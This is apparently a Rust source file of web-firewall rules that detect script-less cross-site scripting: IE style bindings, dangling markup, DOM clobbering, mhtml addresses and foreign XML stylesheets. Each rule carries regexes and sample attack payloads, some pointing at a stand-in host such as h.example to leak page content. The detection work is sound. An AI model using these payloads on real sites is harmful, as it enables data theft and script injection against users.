//! Rules about markup that leads elsewhere without a script: styles that load code, markup cut off in an address, names that
//! hide members of the page's document. Each with its proofs.

use waf_shared::catalog::Leaf;

use crate::field::Places;
use crate::rule::{Rule, RuleMatcher, STRONG};

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[&STYLE_BINDING, &DANGLING, &CLOBBERING, &ARCHIVE, &STYLESHEET];

static STYLE_BINDING: Rule = Rule {
    id: "cross-site-scripting-internet-explorer/style-binding",
    leaf: Leaf::CrossSiteScriptingInternetExplorer,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"\bstyle\s*=[^>]{0,400}?(?:expression\s*\\0{0,4}28|\bbehaviou?r\s*:\s*url|[\s;"'{]binding\s*:\s*url)"#,
        literals: &["expression", "behavio", "binding"],
    },
    summary: "A style attribute attaches a component or computes an expression.",
    attacks: &[
        "<div style=\"behaviour: url(a.htc);\">",
        "<p style='color:red;binding:url(//h.example/x.xml#a)'>",
        "<// style=x:expression\\28alert(1)\\29>",
        "<a style=\"behavior :url(#default#time2)\">",
    ],
    benign: &[
        "How do I use behavior: url in a stylesheet?",
        "<p style=\"color:red\">key binding: url of the page</p>",
        "style = good behaviour",
        "a regular expression (28 bytes)",
    ],
};

static DANGLING: Rule = Rule {
    id: "cross-site-scripting-html-injection-markers/dangling-address",
    leaf: Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<(?:img|image|a|base|body|button|table|td|th|tr|input|link|embed|video|audio|source|track|area|form|iframe|object)\b[^<>]{0,200}?\b(?:src|href|background|action|formaction|poster|data|target)\s*=\s*["'](?:(?:https?:)?[/\\]{2}[^"'<>\s]{1,400}[?=&/#]\s*|\s*)$"#,
        literals: &["<i", "<a", "<b", "<t", "<l", "<e", "<v", "<s", "<f", "<o"],
    },
    summary: "An element whose address to another host is left open, so that it swallows the page behind it.",
    attacks: &[
        "<img src='//h.example/?",
        "\"><img src=\"https://h.example/log?data=",
        "<a href='//h.example/?x=",
        "<table background='//h.example/?",
        "<base target='",
    ],
    benign: &[
        "<img src='//cdn.example/a.png'>",
        "<a href=\"https://example.org/?a=\">x</a>",
        "<img src=\"//cdn.example/a",
        "see https://example.org/?",
    ],
};

static CLOBBERING: Rule = Rule {
    id: "cross-site-scripting-html-injection-markers/clobbering",
    leaf: Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: concat!(
            r#"<(?:form|img|embed|object|iframe|a|input|output|select|textarea|button|fieldset)\b[^<>]{0,200}?\b(?:name|id)\s*=\s*["']?(?:"#,
            r#"getelement(?:s?by\w{2,9})|queryselector(?:all)?|createelement(?:ns)?|createtextnode|currentscript|defaultview|documentelement|firstelementchild|lastelementchild|"#,
            r#"childnodes|innerhtml|outerhtml|parentnode|nodename|nodetype|nodevalue|ownerdocument|adoptnode|importnode|clonenode|removechild|appendchild|removeattribute|setattribute|getattribute|attributes|__proto__|hasownproperty|tostring|valueof"#,
            r#")["'\s/>]|<(?:form|img|embed|object|iframe)\b[^<>]{0,200}?\b(?:name|id)\s*=\s*["']?cookie["'\s/>]"#,
        ),
        literals: &[
            "getelement",
            "queryselector",
            "createelement",
            "createtextnode",
            "currentscript",
            "defaultview",
            "documentelement",
            "elementchild",
            "childnodes",
            "innerhtml",
            "outerhtml",
            "parentnode",
            "nodename",
            "nodetype",
            "nodevalue",
            "ownerdocument",
            "adoptnode",
            "importnode",
            "clonenode",
            "removechild",
            "appendchild",
            "removeattribute",
            "setattribute",
            "getattribute",
            "attributes",
            "__proto__",
            "hasownproperty",
            "tostring",
            "valueof",
            "cookie",
        ],
    },
    summary: "An element is named so that it hides a member of the page's document or of its form.",
    attacks: &[
        "<form name=getElementById>",
        "<img name='cookie'>",
        "<form id=x><input name=attributes>",
        "<a id=defaultView><a id=defaultView name=x>",
        "<embed name=\"querySelector\" src=x>",
    ],
    benign: &[
        "<input name=\"body\">",
        "<img name=\"logo\" src=\"a.png\">",
        "<form id=\"search\">",
        "<input name=\"cookie_consent\">",
    ],
};

static ARCHIVE: Rule = Rule {
    id: "cross-site-scripting-internet-explorer/web-archive",
    leaf: Leaf::CrossSiteScriptingInternetExplorer,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"(?:^|["'=(>\s])mhtml:\s*(?:https?|file|data):[^\s"'<>]{1,800}!"#,
        literals: &["mhtml:"],
    },
    summary: "An address of a part of a web archive, which a browser shows as a page of its host.",
    attacks: &[
        "mhtml:http://h.example/a.html!x",
        "<iframe src=\"mhtml:https://h.example/t.html!a.htm\">",
        "mhtml:file://c:/a.mht!b",
    ],
    benign: &["mhtml: how does it work!", "mhtml:file", "save as mhtml:http works!"],
};

static STYLESHEET: Rule = Rule {
    id: "cross-site-scripting-html-injection-markers/foreign-stylesheet",
    leaf: Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<\?xml-stylesheet\b[^>]{0,400}?\bhref\s*=\s*["']?\s*(?:(?:https?:|ftp:)?//|data:|javascript:)"#,
        literals: &["<?xml-stylesheet"],
    },
    summary: "An XML document takes its stylesheet, which may hold scripts, from another host.",
    attacks: &[
        "<?xml-stylesheet type=\"text/xsl\" href=\"//h.example/a.xsl\"?><a/>",
        "<?xml version=\"1.0\"?><?xml-stylesheet href='http://203.0.113.5/x.xsl'?>",
        "<?xml-stylesheet href=\"data:text/xml,x\"?>",
    ],
    benign: &[
        "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?>",
        "<?xml-stylesheet href=\"/a.css\"?>",
        "<?xml version=\"1.0\"?>",
    ],
};
